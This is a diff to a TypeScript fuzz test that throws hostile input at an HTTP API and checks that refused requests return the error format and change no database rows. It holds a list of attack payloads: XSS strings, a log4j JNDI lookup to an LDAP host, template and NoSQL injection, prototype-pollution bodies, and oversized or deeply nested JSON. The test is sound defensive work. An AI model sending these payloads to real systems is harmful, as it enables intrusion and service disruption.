@@ -40,6 +40,7 @@ const NASTY = [
   "<script>alert(1)</script>",
   "<img src=x onerror=alert(1)>",
   "javascript:alert(1)",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the log4j lookup string, sent as it is
   "${jndi:ldap://example.org/a}",
   "{{7*7}}",
   '{"$where": "1"}',
@@ -82,7 +83,10 @@ const hostileString = fc.oneof(
 const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
   { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
   { weight: 2, arbitrary: hostileString },
-  { weight: 1, arbitrary: fc.constantFrom(0, -1, 1e308, -1e308, 2 ** 53 + 1, 0.1, true, false, null, [], {}) },
+  {
+    weight: 1,
+    arbitrary: fc.constantFrom(0, -1, 1e308, -1e308, 2 ** 53 + 1, 0.1, true, false, null, [], {}),
+  },
   { weight: 1, arbitrary: fc.dictionary(hostileString, fc.jsonValue({ maxDepth: 2 }), { maxKeys: 5 }) },
 );
 
@@ -90,7 +94,9 @@ const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
 const deepBody = fc
   .tuple(fc.integer({ min: 100, max: 200_000 }), fc.constantFrom("array", "object"))
   .map(([depth, kind]) =>
-    kind === "array" ? `${"[".repeat(depth)}${"]".repeat(depth)}` : `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`,
+    kind === "array"
+      ? `${"[".repeat(depth)}${"]".repeat(depth)}`
+      : `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`,
   );
 const HUGE_STRING_BODY = JSON.stringify({ companyName: "x".repeat(11 * 1024 * 1024) });
 const WIDE_BODY = JSON.stringify(Object.fromEntries(Array.from({ length: 50_000 }, (_, i) => [`k${i}`, i])));
@@ -124,7 +130,10 @@ const attack: fc.Arbitrary<Attack> = fc.oneof(
       { weight: 3, arbitrary: deepBody },
       { weight: 3, arbitrary: fc.string({ maxLength: 200 }) },
       { weight: 1, arbitrary: fc.constantFrom(HUGE_STRING_BODY, WIDE_BODY, LONG_ARRAY_BODY) },
-      { weight: 1, arbitrary: fc.constantFrom('{"a":1', '{"__proto__":{"x":1}}', '{"constructor":{"prototype":{}}}') },
+      {
+        weight: 1,
+        arbitrary: fc.constantFrom('{"a":1', '{"__proto__":{"x":1}}', '{"constructor":{"prototype":{}}}'),
+      },
     ),
     contentType: fc.constantFrom(
       "application/json",
@@ -179,7 +188,10 @@ function build(operation: Operation, hit: Attack, authorization: string | undefi
   const headers: Record<string, string> = authorization ? { authorization } : {};
   const pathNames = [...operation.path.matchAll(/\{([^}]+)\}/g)].map((match) => match[1] ?? "");
   const values: Record<string, string> = Object.fromEntries(
-    pathNames.map((name) => [name, name === "companyId" ? DEMO_COMPANY_ID : "00000000-0000-4000-8000-000000000001"]),
+    pathNames.map((name) => [
+      name,
+      name === "companyId" ? DEMO_COMPANY_ID : "00000000-0000-4000-8000-000000000001",
+    ]),
   );
   let path = fillPath(operation.path, values);
   if (hit.kind === "path") {
@@ -309,7 +321,8 @@ describe("hostile input", () => {
           } catch {
             body = undefined;
           }
-          if (!isErrorFormat(body)) failures.push(`${label}: ${status} not in the error format: ${response.body.slice(0, 200)}`);
+          if (!isErrorFormat(body))
+            failures.push(`${label}: ${status} not in the error format: ${response.body.slice(0, 200)}`);
         }
         if (status < 400) {
           accepted++;
@@ -318,7 +331,8 @@ describe("hostile input", () => {
         // A refused request must leave every table as it was: no committed row change at all.
         checks++;
         const written = writesBetween(writesBefore, await writes());
-        if (written.length > 0) failures.push(`${label}: refused with ${status} but wrote ${written.join(", ")}`);
+        if (written.length > 0)
+          failures.push(`${label}: refused with ${status} but wrote ${written.join(", ")}`);
       },
     );
     await fc.assert(property, { numRuns: RUNS, ...(SEED === undefined ? {} : { seed: SEED }) });
